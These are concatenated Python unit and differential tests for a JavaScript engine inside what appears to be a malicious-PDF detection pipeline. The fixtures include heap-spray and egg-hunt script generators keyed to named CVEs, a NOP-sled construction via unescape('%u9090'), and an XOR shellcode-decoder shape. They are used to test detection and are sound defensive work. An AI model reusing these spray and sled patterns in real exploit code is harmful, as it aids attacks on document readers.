        "var p = new Pair(1, 2);\n"
        "var keys = '';\n"
        "for (var k in p) { keys += k; }\n"
        "keys"
    ),
}


def render_all() -> Dict[str, str]:
    """name -> disassembly listing, compiled fresh (cache bypassed)."""
    from repro.js.compiler import Compiler, disassemble
    from repro.js.parser import parse

    listings: Dict[str, str] = {}
    for name, source in sorted(GOLDEN_SCRIPTS.items()):
        code = Compiler().compile_program(parse(source))
        listings[name] = disassemble(code, name=f"<{name}>")
    return listings


def main() -> None:
    DISASM_DIR.mkdir(parents=True, exist_ok=True)
    listings = render_all()
    for name, listing in listings.items():
        (DISASM_DIR / f"{name}.txt").write_text(listing, encoding="utf-8")
    print(f"wrote {len(listings)} golden disassembly listing(s) to {DISASM_DIR}")


if __name__ == "__main__":
    main()
