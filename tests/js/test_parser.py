"""Unit tests for the JavaScript parser (AST shapes + errors)."""

import pytest

from repro.js import nodes as ast
from repro.js.errors import JSSyntaxError
from repro.js.parser import parse


def first(source):
    return parse(source).body[0]


class TestStatements:
    def test_var_multiple_declarations(self):
        node = first("var a = 1, b, c = 'x';")
        assert isinstance(node, ast.VarDeclaration)
        names = [n for n, _init in node.declarations]
        assert names == ["a", "b", "c"]
        assert node.declarations[1][1] is None

    def test_if_else(self):
        node = first("if (a) b; else c;")
        assert isinstance(node, ast.IfStatement)
        assert node.alternate is not None

    def test_while(self):
        assert isinstance(first("while (x) x--;"), ast.WhileStatement)

    def test_do_while(self):
        assert isinstance(first("do { x(); } while (y);"), ast.DoWhileStatement)

    def test_classic_for(self):
        node = first("for (var i = 0; i < 3; i++) f(i);")
        assert isinstance(node, ast.ForStatement)
        assert node.init is not None and node.test is not None and node.update is not None

    def test_for_with_empty_clauses(self):
        node = first("for (;;) break;")
        assert node.init is None and node.test is None and node.update is None

    def test_for_in_with_var(self):
        node = first("for (var k in obj) f(k);")
        assert isinstance(node, ast.ForInStatement)
        assert isinstance(node.target, ast.VarDeclaration)

    def test_for_in_with_identifier(self):
        node = first("for (k in obj) f(k);")
        assert isinstance(node.target, ast.Identifier)

    def test_function_declaration(self):
        node = first("function add(a, b) { return a + b; }")
        assert isinstance(node, ast.FunctionDeclaration)
        assert node.params == ["a", "b"]

    def test_return_without_value(self):
        program = parse("function f() { return; }")
        ret = program.body[0].body.statements[0]
        assert ret.value is None

    def test_try_catch_finally(self):
        node = first("try { a(); } catch (e) { b(); } finally { c(); }")
        assert isinstance(node, ast.TryStatement)
        assert node.catch_param == "e"
        assert node.finally_block is not None

    def test_try_requires_handler(self):
        with pytest.raises(JSSyntaxError):
            parse("try { a(); }")

    def test_switch(self):
        node = first("switch (x) { case 1: a(); break; default: b(); }")
        assert isinstance(node, ast.SwitchStatement)
        assert len(node.cases) == 2
        assert node.cases[1].test is None

    def test_throw(self):
        assert isinstance(first("throw 'err';"), ast.ThrowStatement)

    def test_empty_statement(self):
        assert isinstance(first(";"), ast.EmptyStatement)

    def test_missing_semicolon_same_line_raises(self):
        with pytest.raises(JSSyntaxError):
            parse("var a = 1 var b = 2")

    def test_newline_asi(self):
        program = parse("var a = 1\nvar b = 2")
        assert len(program.body) == 2


class TestExpressions:
    def test_precedence_mul_over_add(self):
        node = first("1 + 2 * 3;").expression
        assert isinstance(node, ast.BinaryExpression)
        assert node.op == "+"
        assert isinstance(node.right, ast.BinaryExpression)

    def test_logical_vs_bitwise(self):
        node = first("a || b && c;").expression
        assert node.op == "||"

    def test_conditional(self):
        node = first("a ? b : c;").expression
        assert isinstance(node, ast.ConditionalExpression)

    def test_assignment_chain(self):
        node = first("a = b = 1;").expression
        assert isinstance(node.value, ast.AssignmentExpression)

    def test_compound_assignment(self):
        assert first("a += 2;").expression.op == "+="

    def test_invalid_assignment_target(self):
        with pytest.raises(JSSyntaxError):
            parse("1 = 2;")

    def test_member_chain(self):
        node = first("a.b[c].d;").expression
        assert isinstance(node, ast.MemberExpression)
        assert not node.computed

    def test_call_with_args(self):
        node = first("f(1, 'x', g());").expression
        assert isinstance(node, ast.CallExpression)
        assert len(node.arguments) == 3

    def test_new_expression(self):
        node = first("new Thing(1);").expression
        assert isinstance(node, ast.NewExpression)

    def test_function_expression(self):
        node = first("var f = function(x) { return x; };")
        assert isinstance(node.declarations[0][1], ast.FunctionExpression)

    def test_array_literal(self):
        node = first("[1, 2, 3];").expression
        assert isinstance(node, ast.ArrayLiteral)
        assert len(node.elements) == 3

    def test_object_literal_key_kinds(self):
        node = first("({a: 1, 'b c': 2, 3: 4});").expression
        assert [k for k, _v in node.entries] == ["a", "b c", "3"]

    def test_unary_operators(self):
        for source, op in [("!a;", "!"), ("-a;", "-"), ("~a;", "~"), ("typeof a;", "typeof")]:
            assert first(source).expression.op == op

    def test_update_prefix_and_postfix(self):
        assert first("++a;").expression.prefix
        assert not first("a++;").expression.prefix

    def test_sequence_expression(self):
        node = first("a, b, c;").expression
        assert isinstance(node, ast.SequenceExpression)

    def test_in_operator_allowed_outside_for(self):
        node = first("'k' in o;").expression
        assert node.op == "in"

    def test_delete_operator(self):
        assert first("delete o.k;").expression.op == "delete"

    def test_unexpected_token_raises(self):
        with pytest.raises(JSSyntaxError):
            parse("var = 4;")
