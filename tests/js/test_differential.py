"""Differential harness: the bytecode VM against the reference walker.

Every observable the host can see must be bit-for-bit identical across
``repro.js`` engines: completion values, thrown errors, consumed step
budget, string-allocation telemetry (``Host.allocated_bytes``), the
spray pool, and — at the pipeline level — verdicts, fired features,
alerts, fake messages and quarantined files.  The bytecode engine is
an optimisation, never a semantic fork; this suite is the contract
that keeps it honest.

Run just this lane with ``pytest -m diff``.
"""

from __future__ import annotations

import random
from typing import Any, Optional, Tuple

import pytest

from repro.core.pipeline import PipelineSettings
from repro.corpus import build_dataset
from repro.corpus import test_scale as corpus_test_scale
from repro.corpus.js_snippets import (
    benign_date_script,
    benign_form_script,
    benign_multiscript_part,
    benign_page_script,
    benign_report_script,
    benign_soap_script,
    egg_hunt_script,
    export_launch_script,
    exploit_call_for,
    failing_probe_script,
    spray_script,
    version_gated,
)
from repro.js import make_interpreter
from repro.js.interpreter import Host
from repro.reader.payload import Payload

pytestmark = pytest.mark.diff


def run_engine(
    engine: str, source: str, max_steps: int = 300_000
) -> Tuple[Any, int, int, int]:
    """One engine run reduced to its observable footprint.

    The tuple is (status, steps, allocated_bytes, spray_pool_len) where
    status is ("ok", repr(value)) or ("err", type, message) — repr keeps
    float formatting and UNDEFINED/JSObject identity questions out of
    the comparison while still distinguishing every value the walker
    can produce.
    """
    host = Host()
    interp = make_interpreter(engine, host=host, max_steps=max_steps)
    try:
        status: Tuple[Any, ...] = ("ok", repr(interp.run(source)))
    except Exception as exc:  # noqa: BLE001 - errors are part of the contract
        status = ("err", type(exc).__name__, str(exc))
    return status, interp.steps, host.allocated_bytes, len(host.spray_pool)


def assert_equivalent(source: str, max_steps: int = 300_000) -> None:
    ast_run = run_engine("ast", source, max_steps)
    bc_run = run_engine("bytecode", source, max_steps)
    assert ast_run == bc_run, (
        f"engine divergence on:\n{source}\n  ast: {ast_run}\n  bytecode: {bc_run}"
    )


# ---------------------------------------------------------------------------
# Inline language-surface corpus

LANGUAGE_CASES = [
    # arithmetic / coercion
    "1 + 2 * 3 - 4 / 5",
    "'5' * '4' + ('a' - 1)",
    "0.1 + 0.2",
    "'abc' + 123 + true + null + undefined",
    "1/0 + (-1/0) + (0/0)",
    "5 % 3; -5 % 3; 5 % 0",
    "~12.7; 1 << 3; -1 >>> 28; 255 & 15; 8 | 3; 9 ^ 5",
    "'10' == 10; '10' === 10; null == undefined; null === undefined",
    "NaN == NaN; NaN != NaN",
    # strings and methods
    "var s = 'hello world'; s.toUpperCase() + s.substr(3, 4) + s.charAt(1)",
    "'abcdef'.indexOf('cd') + 'abcdef'.charCodeAt(2)",
    "String.fromCharCode(72, 105) + String.fromCharCode(33)",
    "'a,b,c'.split(',').join('-')",
    "unescape('%u9090%u9090').length",
    "var t = ''; t += 'xy'; t += t; t += t; t.length",
    # control flow
    "var x = 0; if (x) { x = 1; } else if (x === 0) { x = 2; } x",
    "var n = 0; for (var i = 0; i < 10; i++) { if (i % 2) continue; n += i; } n",
    "var n = 0; for (var i = 0; ; i++) { if (i > 5) break; n++; } n",
    "var n = 0; while (n < 7) n++; n",
    "var n = 10; do { n--; } while (n > 3); n",
    "var r = ''; switch (2) { case 1: r = 'a'; case 2: r = 'b'; case 3: r += 'c'; break; default: r = 'd'; } r",
    "outer: for (var i = 0; i < 3; i++) { for (var j = 0; j < 3; j++) { if (j == 1) continue outer; } } i",
    # functions, closures, recursion
    "function add(a, b) { return a + b; } add(2, 3) + add('x', 'y')",
    "function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); } fib(12)",
    "function outer() { var c = 0; return function () { return ++c; }; } var f = outer(); f(); f(); f()",
    "function v() { return arguments.length + ':' + arguments[1]; } v(9, 8, 7)",
    "var f = function me(n) { return n ? n + me(n - 1) : 0; }; f(4)",
    "function noargs() { var arguments_unused = 1; return arguments_unused; } noargs()",
    # objects / arrays / prototypes
    "var o = {a: 1, b: {c: 2}}; o.a + o['b'].c + (o.missing === undefined)",
    "var a = [3, 1, 2]; a.push(0); a.sort(); a.join('')",
    "var a = []; a[5] = 'x'; a.length + ':' + a[2]",
    "var o = {n: 1}; o.n++; ++o.n; o.n",
    "var o = {}; o.x = 1; delete o.x; o.x === undefined",
    "for (var k in {a: 1, b: 2}) { var last = k; } last",
    "var ctor = function (v) { this.v = v; }; new ctor(7).v",
    "typeof 1 + typeof 'a' + typeof undefined + typeof {} + typeof unboundName",
    # exceptions
    "try { null.x; } catch (e) { 'caught:' + e }",
    "try { throw {code: 42}; } catch (e) { e.code }",
    "var r = ''; try { r += 'a'; throw 'x'; } catch (e) { r += 'b'; } finally { r += 'c'; } r",
    "function f() { try { return 'a'; } finally { } } f()",
    "missingFunction()",
    "var o = {}; o.nope()",
    # eval (the instrumentation prologue depends on it)
    "var i = 1; eval('i = i + 41'); i",
    "eval('var hidden = 9; hidden * 2')",
    # update-expression / fused-opcode surface
    "var i = 0; i++; i++; ++i; i--; i",
    "var s = ''; for (var i = 0; i < 4; i++) { s += i; } s",
    "var j = '7'; j++; j",
    "var j; j++; j !== j",
    "var k = {}; k++; k !== k",
    "var i = 0; var got = [i++, i++, ++i]; got.join(',')",
    # typical shellcode-decoder shapes
    (
        "function d(data, key) { var out = ''; for (var i = 0; i < data.length; i++)"
        " { out += String.fromCharCode(data.charCodeAt(i) ^ key); } return out; }"
        " d(d('attack at dawn', 42), 42)"
    ),
    (
        "var sled = unescape('%u9090%u9090'); while (sled.length < 512) sled += sled;"
        " sled.length"
    ),
]


@pytest.mark.parametrize("source", LANGUAGE_CASES, ids=lambda s: s[:48])
def test_language_surface(source: str) -> None:
    assert_equivalent(source)


# ---------------------------------------------------------------------------
# Corpus generators (the JS the pipeline actually scans)


def corpus_scripts() -> list:
    payload = Payload.dropper()
    scripts = [
        spray_script(1, payload, random.Random(1), chunk_chars=4096),
        spray_script(
            1, payload, random.Random(2), chunk_chars=4096,
            exploit_call=exploit_call_for("CVE-2008-2992"),
        ),
        spray_script(
            1, payload, random.Random(3), chunk_chars=4096,
            hide_payload_in_title=True,
        ),
        spray_script(
            1, payload, random.Random(4), chunk_chars=4096, export_chunk_as="stage2",
        ),
        egg_hunt_script(1, Payload.egg_hunter(), random.Random(5), "CVE-2009-0927"),
        failing_probe_script("CVE-2009-1492"),
        failing_probe_script("CVE-2013-0640"),
        export_launch_script(),
        version_gated("var ran = 1;", 9),
        benign_report_script(40, 256, random.Random(6)),
        benign_form_script(random.Random(7)),
        benign_date_script(random.Random(8)),
        benign_page_script(),
        benign_soap_script(),
        benign_multiscript_part(3),
    ]
    return scripts


@pytest.mark.parametrize(
    "source", corpus_scripts(), ids=lambda s: s.splitlines()[0][:48]
)
def test_corpus_generators(source: str) -> None:
    # Bare interpreters have no Doc/app surface, so some of these die on
    # a lookup error — the point is that both engines die identically,
    # with identical partial side effects on the host.
    assert_equivalent(source)


# ---------------------------------------------------------------------------
# Step-budget exhaustion: the budget must blow at the same tick, leaving
# the same partial telemetry, for every cutoff — not just the final one.

SWEEP_CASES = [
    "var s = 0; for (var i = 0; i < 5; i++) s += i; s",
    "function f(n) { return n ? f(n - 1) + 1 : 0; } f(6)",
    "var t = ''; for (var i = 65; i < 70; i++) t += String.fromCharCode(i); t",
    "var i = 0; while (true) i++;",
    "try { for (var i = 0; i < 4; i++) { if (i == 2) throw 'x'; } } catch (e) { e + i }",
    "var i = 1; eval('i++; i++;'); i",
]


@pytest.mark.parametrize("source", SWEEP_CASES, ids=lambda s: s[:40])
def test_budget_exhaustion_sweep(source: str) -> None:
    _, full_steps, _, _ = run_engine("ast", source, max_steps=2_000)
    for max_steps in range(1, min(full_steps + 2, 400)):
        ast_run = run_engine("ast", source, max_steps)
        bc_run = run_engine("bytecode", source, max_steps)
        assert ast_run == bc_run, (
            f"divergence at max_steps={max_steps} on:\n{source}\n"
            f"  ast: {ast_run}\n  bytecode: {bc_run}"
        )


# ---------------------------------------------------------------------------
# Full pipeline: scan the generated corpus end to end on both engines.


def report_fingerprint(report) -> Tuple[Any, ...]:
    verdict = report.verdict
    return (
        verdict.document,
        verdict.malicious,
        verdict.malscore,
        tuple(verdict.features.bits),
        tuple(verdict.reasons),
        report.errored,
        report.crashed,
        len(report.alerts),
        report.fake_messages,
        tuple(report.quarantined_files),
    )


@pytest.mark.slow
def test_full_pipeline_corpus_identical() -> None:
    dataset = build_dataset(corpus_test_scale())
    samples = list(dataset.all_samples())
    assert samples, "corpus generator produced no samples"
    mismatches = []
    ast_pipe = PipelineSettings(js_engine="ast").build()
    bc_pipe = PipelineSettings(js_engine="bytecode").build()
    for sample in samples:
        ast_fp = report_fingerprint(ast_pipe.scan(sample.data, sample.name))
        bc_fp = report_fingerprint(bc_pipe.scan(sample.data, sample.name))
        if ast_fp != bc_fp:
            mismatches.append((sample.name, ast_fp, bc_fp))
    assert not mismatches, f"verdict divergence on {len(mismatches)} documents: {mismatches}"


def test_engine_selection_is_explicit() -> None:
    """A pipeline records the engine it was asked for; the resolver, not
    the pipeline, owns the env-var/default fallback."""
    from repro.js import DEFAULT_JS_ENGINE, resolve_js_engine

    assert resolve_js_engine("ast") == "ast"
    assert resolve_js_engine("bytecode") == "bytecode"
    assert resolve_js_engine(None) in ("ast", "bytecode")
    assert DEFAULT_JS_ENGINE == "bytecode"
    with pytest.raises(ValueError):
        resolve_js_engine("jit")


def test_env_var_fallback(monkeypatch) -> None:
    from repro.js import resolve_js_engine

    monkeypatch.setenv("REPRO_JS_ENGINE", "ast")
    assert resolve_js_engine(None) == "ast"
    monkeypatch.setenv("REPRO_JS_ENGINE", "bytecode")
    assert resolve_js_engine(None) == "bytecode"
    monkeypatch.setenv("REPRO_JS_ENGINE", "nope")
    with pytest.raises(ValueError):
        resolve_js_engine(None)
    monkeypatch.delenv("REPRO_JS_ENGINE")
    from repro.js import DEFAULT_JS_ENGINE

    assert resolve_js_engine(None) == DEFAULT_JS_ENGINE


def test_make_interpreter_returns_requested_engine() -> None:
    from repro.js.interpreter import Interpreter
    from repro.js.vm import BytecodeInterpreter

    walker = make_interpreter("ast")
    compiled = make_interpreter("bytecode")
    assert type(walker) is Interpreter
    assert isinstance(compiled, BytecodeInterpreter)
