"""Direct unit tests for the JS value model and coercion algorithms."""

import math

import pytest

from repro.js.values import (
    JSArray,
    JSObject,
    NativeFunction,
    UNDEFINED,
    format_number,
    is_callable,
    loose_equals,
    strict_equals,
    to_int32,
    to_number,
    to_string,
    to_uint32,
    truthy,
    type_of,
)


class TestToNumber:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (True, 1.0), (False, 0.0), (None, 0.0),
            ("", 0.0), ("  12 ", 12.0), ("0x1f", 31.0), ("-3.5", -3.5),
        ],
    )
    def test_values(self, value, expected):
        assert to_number(value) == expected

    def test_nan_cases(self):
        assert math.isnan(to_number(UNDEFINED))
        assert math.isnan(to_number("not a number"))
        assert math.isnan(to_number(JSObject()))

    def test_array_cases(self):
        assert to_number(JSArray([])) == 0.0
        assert to_number(JSArray([7.0])) == 7.0
        assert math.isnan(to_number(JSArray([1.0, 2.0])))


class TestToString:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (UNDEFINED, "undefined"), (None, "null"),
            (True, "true"), (False, "false"),
            (3.0, "3"), (3.5, "3.5"), (-0.0, "0"),
            (JSArray([1.0, None, "x"]), "1,,x"),
        ],
    )
    def test_values(self, value, expected):
        assert to_string(value) == expected

    def test_object_tag(self):
        assert to_string(JSObject()) == "[object Object]"

    def test_function_rendering(self):
        fn = NativeFunction("f", lambda i, t, a: None)
        assert "function f" in to_string(fn)

    def test_format_number_specials(self):
        assert format_number(math.nan) == "NaN"
        assert format_number(math.inf) == "Infinity"
        assert format_number(-math.inf) == "-Infinity"


class TestInt32:
    def test_wrapping(self):
        assert to_int32(2**31) == -(2**31)
        assert to_int32(2**32 + 5) == 5
        assert to_uint32(-1) == 2**32 - 1

    def test_non_finite(self):
        assert to_int32(math.nan) == 0
        assert to_int32(math.inf) == 0
        assert to_uint32(math.nan) == 0


class TestEquality:
    def test_loose_null_undefined(self):
        assert loose_equals(None, UNDEFINED)
        assert not loose_equals(None, 0.0)
        assert not loose_equals(UNDEFINED, "")

    def test_loose_number_string(self):
        assert loose_equals(1.0, "1")
        assert loose_equals("", 0.0)

    def test_object_identity(self):
        a, b = JSObject(), JSObject()
        assert loose_equals(a, a)
        assert not loose_equals(a, b)
        assert strict_equals(a, a)
        assert not strict_equals(a, b)

    def test_strict_type_mismatch(self):
        assert not strict_equals(1.0, "1")
        assert not strict_equals(True, 1.0)
        assert not strict_equals(None, UNDEFINED)


class TestTypeOfAndTruthy:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (UNDEFINED, "undefined"), (None, "object"),
            (True, "boolean"), (1.0, "number"), ("s", "string"),
            (JSObject(), "object"), (JSArray([]), "object"),
        ],
    )
    def test_type_of(self, value, expected):
        assert type_of(value) == expected

    def test_functions_are_callable(self):
        fn = NativeFunction("f", lambda i, t, a: None)
        assert type_of(fn) == "function"
        assert is_callable(fn)
        assert not is_callable(JSObject())

    @pytest.mark.parametrize("falsy", [UNDEFINED, None, False, 0.0, math.nan, ""])
    def test_falsy(self, falsy):
        assert not truthy(falsy)

    @pytest.mark.parametrize("truey", [True, 1.0, -1.0, "0", JSObject(), JSArray([])])
    def test_truthy(self, truey):
        assert truthy(truey)


class TestJSArraySemantics:
    def test_length_read_write(self):
        arr = JSArray([1.0, 2.0, 3.0])
        assert arr.get("length") == 3.0
        arr.set("length", 5)
        assert len(arr.elements) == 5
        assert arr.elements[4] is UNDEFINED

    def test_index_get_set(self):
        arr = JSArray([])
        arr.set("2", "x")
        assert arr.get("2") == "x"
        assert arr.get("0") is UNDEFINED
        assert arr.get("9") is UNDEFINED

    def test_keys_include_indices_and_props(self):
        arr = JSArray([1.0])
        arr.set("tag", "t")
        assert arr.keys() == ["0", "tag"]


class TestPrototypeChain:
    def test_get_falls_back_to_prototype(self):
        proto = JSObject({"shared": 1.0})
        child = JSObject(prototype=proto)
        assert child.get("shared") == 1.0
        assert child.has("shared")
        child.set("shared", 2.0)
        assert child.get("shared") == 2.0
        assert proto.get("shared") == 1.0

    def test_delete_only_own(self):
        proto = JSObject({"k": 1.0})
        child = JSObject(prototype=proto)
        assert not child.delete("k")
        assert child.get("k") == 1.0
