"""Unit tests for the JS builtins (strings, arrays, Math, globals)."""

import math


from repro.js import evaluate


class TestGlobals:
    def test_unescape_percent_u(self):
        assert evaluate("unescape('%u0041%u0042')") == "AB"

    def test_unescape_percent_xx(self):
        assert evaluate("unescape('%41%42%43')") == "ABC"

    def test_unescape_mixed_and_literal(self):
        assert evaluate("unescape('a%u0062c%64')") == "abcd"

    def test_unescape_sled_unit(self):
        assert evaluate("unescape('%u9090').charCodeAt(0)") == 0x9090

    def test_escape_roundtrip(self):
        assert evaluate("unescape(escape('héllo wörld'))") == "héllo wörld"

    def test_parse_int(self):
        assert evaluate("parseInt('42px')") == 42.0
        assert evaluate("parseInt('0x1F')") == 31.0
        assert evaluate("parseInt('ff', 16)") == 255.0
        assert evaluate("parseInt('-12')") == -12.0
        assert math.isnan(evaluate("parseInt('zz')"))

    def test_parse_float(self):
        assert evaluate("parseFloat('3.5rem')") == 3.5
        assert math.isnan(evaluate("parseFloat('abc')"))

    def test_is_nan_is_finite(self):
        assert evaluate("isNaN('x')") is True
        assert evaluate("isFinite(1/0)") is False

    def test_string_constructor_and_fromcharcode(self):
        assert evaluate("String(12)") == "12"
        assert evaluate("String.fromCharCode(72, 105)") == "Hi"

    def test_number_boolean_constructors(self):
        assert evaluate("Number('6') * 2") == 12.0
        assert evaluate("Boolean('')") is False

    def test_array_constructor(self):
        assert evaluate("new Array(3).length") == 3.0
        assert evaluate("Array(1, 2, 3).join('')") == "123"

    def test_math(self):
        assert evaluate("Math.floor(2.9)") == 2.0
        assert evaluate("Math.ceil(2.1)") == 3.0
        assert evaluate("Math.abs(-4)") == 4.0
        assert evaluate("Math.pow(2, 10)") == 1024.0
        assert evaluate("Math.max(1, 9, 3)") == 9.0
        assert evaluate("Math.min(5, -2)") == -2.0

    def test_math_random_deterministic(self):
        a = evaluate("Math.random()")
        b = evaluate("Math.random()")
        assert a == b  # fresh interpreter, same seed
        assert 0.0 <= a <= 1.0

    def test_error_constructor(self):
        assert evaluate("var e = new Error('bad'); e.message") == "bad"


class TestStringMethods:
    def test_length_and_index(self):
        assert evaluate("'hello'.length") == 5.0
        assert evaluate("'hello'[1]") == "e"

    def test_char_at_and_code(self):
        assert evaluate("'abc'.charAt(2)") == "c"
        assert evaluate("'abc'.charCodeAt(0)") == 97.0
        assert evaluate("'abc'.charAt(9)") == ""
        assert math.isnan(evaluate("'abc'.charCodeAt(9)"))

    def test_index_of(self):
        assert evaluate("'banana'.indexOf('na')") == 2.0
        assert evaluate("'banana'.indexOf('na', 3)") == 4.0
        assert evaluate("'banana'.lastIndexOf('na')") == 4.0
        assert evaluate("'x'.indexOf('q')") == -1.0

    def test_substring_swaps_args(self):
        assert evaluate("'abcdef'.substring(4, 1)") == "bcd"

    def test_substr(self):
        assert evaluate("'abcdef'.substr(2, 3)") == "cde"
        assert evaluate("'abcdef'.substr(-2)") == "ef"

    def test_slice_negative(self):
        assert evaluate("'abcdef'.slice(-3)") == "def"
        assert evaluate("'abcdef'.slice(1, 3)") == "bc"

    def test_case_conversion(self):
        assert evaluate("'MiXeD'.toLowerCase()") == "mixed"
        assert evaluate("'MiXeD'.toUpperCase()") == "MIXED"

    def test_split(self):
        assert evaluate("'a,b,c'.split(',').length") == 3.0
        assert evaluate("'abc'.split('').join('-')") == "a-b-c"
        assert evaluate("'abc'.split()[0]") == "abc"

    def test_replace_first_only(self):
        assert evaluate("'aXaX'.replace('X', 'o')") == "aoaX"

    def test_concat(self):
        assert evaluate("'a'.concat('b', 'c')") == "abc"

    def test_unknown_method_is_undefined(self):
        assert evaluate("typeof 'x'.notAMethod") == "undefined"


class TestNumberMethods:
    def test_to_string_radix(self):
        assert evaluate("(255).toString(16)") == "ff"
        assert evaluate("(8).toString(2)") == "1000"
        assert evaluate("(42).toString()") == "42"

    def test_to_fixed(self):
        assert evaluate("(3.14159).toFixed(2)") == "3.14"


class TestArrayMethods:
    def test_push_pop(self):
        assert evaluate("var a = [1]; a.push(2, 3); a.pop(); a.join(',')") == "1,2"

    def test_shift_unshift(self):
        assert evaluate("var a = [2, 3]; a.unshift(1); a.shift(); a.join('')") == "23"

    def test_join_default_separator(self):
        assert evaluate("[1, 2].join()") == "1,2"

    def test_concat(self):
        assert evaluate("[1].concat([2, 3], 4).length") == 4.0

    def test_slice(self):
        assert evaluate("[1,2,3,4].slice(1, 3).join('')") == "23"

    def test_reverse_in_place(self):
        assert evaluate("var a = [1,2,3]; a.reverse(); a.join('')") == "321"

    def test_index_of_strict(self):
        assert evaluate("[1, '1', 2].indexOf('1')") == 1.0
        assert evaluate("[1].indexOf(9)") == -1.0

    def test_sort_default_lexicographic(self):
        assert evaluate("[10, 9, 1].sort().join(',')") == "1,10,9"

    def test_sort_with_comparator(self):
        assert evaluate("[10, 9, 1].sort(function(a,b){return a-b;}).join(',')") == "1,9,10"

    def test_length_assignment_truncates(self):
        assert evaluate("var a = [1,2,3]; a.length = 1; a.join(',')") == "1"

    def test_sparse_assignment_extends(self):
        assert evaluate("var a = []; a[3] = 'x'; a.length") == 4.0

    def test_has_own_property(self):
        assert evaluate("({a: 1}).hasOwnProperty('a')") is True
        assert evaluate("({a: 1}).hasOwnProperty('b')") is False

    def test_splice_removes_and_returns(self):
        assert evaluate("var a = [1,2,3,4]; a.splice(1, 2).join(',')") == "2,3"
        assert evaluate("var a = [1,2,3,4]; a.splice(1, 2); a.join(',')") == "1,4"

    def test_splice_inserts(self):
        assert evaluate("var a = [1,4]; a.splice(1, 0, 2, 3); a.join(',')") == "1,2,3,4"

    def test_splice_negative_start(self):
        assert evaluate("var a = [1,2,3]; a.splice(-1, 1); a.join(',')") == "1,2"

    def test_splice_no_delete_count_removes_rest(self):
        assert evaluate("var a = [1,2,3]; a.splice(1); a.join(',')") == "1"


class TestMathExtras:
    def test_log_exp(self):
        import math as m

        assert abs(evaluate("Math.log(Math.exp(2))") - 2.0) < 1e-9
        assert evaluate("Math.log(0)") == -m.inf
        assert m.isnan(evaluate("Math.log(-1)"))

    def test_trig(self):
        assert abs(evaluate("Math.sin(0)")) < 1e-12
        assert abs(evaluate("Math.cos(0)") - 1.0) < 1e-12
        assert abs(evaluate("Math.atan(1) * 4 - Math.PI")) < 1e-9


class TestStringTrim:
    def test_trim(self):
        assert evaluate("'  padded  '.trim()") == "padded"
