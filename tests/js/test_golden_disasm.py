"""Golden disassembly snapshots for the bytecode compiler.

See :mod:`tests.js.golden_disasm` for the corpus and the regeneration
command.  A failure here means compiler emission changed: if the
change is intentional, regenerate and review the listing diff; if not,
you just caught a codegen regression at the instruction level.
"""

from __future__ import annotations

import pytest

from tests.js.golden_disasm import (
    DISASM_DIR,
    GOLDEN_SCRIPTS,
    REGEN_COMMAND,
    render_all,
)


@pytest.fixture(scope="module")
def listings():
    return render_all()


def test_snapshot_files_exist() -> None:
    missing = [
        name for name in GOLDEN_SCRIPTS if not (DISASM_DIR / f"{name}.txt").exists()
    ]
    assert not missing, (
        f"missing golden listings {missing}; run: {REGEN_COMMAND}"
    )


@pytest.mark.parametrize("name", sorted(GOLDEN_SCRIPTS))
def test_disassembly_matches_snapshot(name: str, listings) -> None:
    expected = (DISASM_DIR / f"{name}.txt").read_text(encoding="utf-8")
    actual = listings[name]
    assert actual == expected, (
        f"disassembly for {name!r} drifted from its golden listing.\n"
        f"If the compiler change is intentional, run: {REGEN_COMMAND}\n"
        f"--- golden ---\n{expected}\n--- current ---\n{actual}"
    )


def test_fused_opcodes_present_in_loop_listings(listings) -> None:
    """The superinstructions are part of the pinned codegen contract."""
    assert "INC_SLOT" in listings["counting_loop"]
    assert "INC_SLOT" in listings["decoder_loop"]
    # Statement-level slot stores fold their discard (slot functions only;
    # program top-level tracks a completion value instead).
    assert "STORE_SLOT_POP" in listings["counting_loop"]
    assert "STORE_SLOT_POP" in listings["decoder_loop"]


def test_listings_are_deterministic() -> None:
    assert render_all() == render_all()
