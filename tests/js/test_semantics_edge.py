"""Edge-case semantics tests for the JS engine.

These pin down behaviours the instrumentation and the corpus scripts
rely on implicitly — scoping corners, coercion corners, control-flow
interactions — so engine refactors cannot silently change them.
"""

import math

import pytest

from repro.js import evaluate
from repro.js.errors import JSRuntimeError, JSThrow


class TestScoping:
    def test_var_is_function_scoped_not_block_scoped(self):
        assert evaluate("function f(){ if (true) { var inner = 5; } return inner; } f()") == 5.0

    def test_inner_function_shadows(self):
        source = """
        var x = 'outer';
        function f() { var x = 'inner'; return x; }
        f() + '/' + x
        """
        assert evaluate(source) == "inner/outer"

    def test_closures_share_captured_variable(self):
        source = """
        function pair() {
            var n = 0;
            return [function(){ n += 1; return n; }, function(){ return n; }];
        }
        var p = pair();
        p[0](); p[0]();
        p[1]()
        """
        assert evaluate(source) == 2.0

    def test_catch_parameter_scoped_to_catch(self):
        source = """
        var e = 'outer';
        try { throw 'x'; } catch (e) {}
        e
        """
        assert evaluate(source) == "outer"

    def test_function_expression_name_not_leaked(self):
        assert evaluate("var f = function named(){}; typeof named") == "undefined"

    def test_eval_writes_visible_after(self):
        assert evaluate("function f(){ eval('var v = 3;'); return v; } f()") == 3.0


class TestCoercionCorners:
    def test_plus_with_arrays(self):
        assert evaluate("[1,2] + ''") == "1,2"
        assert evaluate("[] + 1") == "1"

    def test_minus_coerces_arrays(self):
        assert evaluate("[5] - 2") == 3.0

    def test_boolean_arithmetic(self):
        assert evaluate("true + true") == 2.0
        assert evaluate("false - 1") == -1.0

    def test_null_vs_undefined_numeric(self):
        assert evaluate("null + 1") == 1.0
        assert math.isnan(evaluate("undefined + 1"))

    def test_empty_string_is_zero(self):
        assert evaluate("'' * 3") == 0.0

    def test_whitespace_string_numeric(self):
        assert evaluate("'  42  ' - 0") == 42.0

    def test_hex_string_numeric(self):
        assert evaluate("'0x10' - 0") == 16.0

    def test_object_to_string_tag(self):
        assert evaluate("'' + {}") == "[object Object]"

    def test_negative_zero_division(self):
        assert evaluate("1 / -0") == -math.inf


class TestControlFlowInteractions:
    def test_break_inside_switch_inside_loop(self):
        source = """
        var hits = 0;
        for (var i = 0; i < 3; i++) {
            switch (i) {
                case 1: break;
                default: hits++;
            }
        }
        hits
        """
        assert evaluate(source) == 2.0

    def test_continue_skips_update_side_effect_correctly(self):
        source = """
        var seen = [];
        for (var i = 0; i < 5; i++) {
            if (i === 2) continue;
            seen.push(i);
